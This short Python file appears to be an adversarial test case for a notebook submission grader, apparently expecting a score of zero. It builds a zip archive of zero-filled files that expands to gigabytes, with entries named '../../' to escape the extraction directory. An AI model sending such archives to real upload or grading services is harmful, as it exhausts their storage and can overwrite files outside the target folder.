"""Submits a zip archive that unpacks to gigabytes, in place of the notebook."""

import io
import zipfile


def attack(submission):
    """Pack zeros, with a path up the tree."""
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as archive:
        for number in range(20):
            archive.writestr(f"../../{number}.ipynb", bytes(20_000_000))
    submission.write(data.getvalue(), f"{submission.stage}.zip")
    submission.notebook = None


SCORE = 0
REMARK = "archive"
HUMAN = True
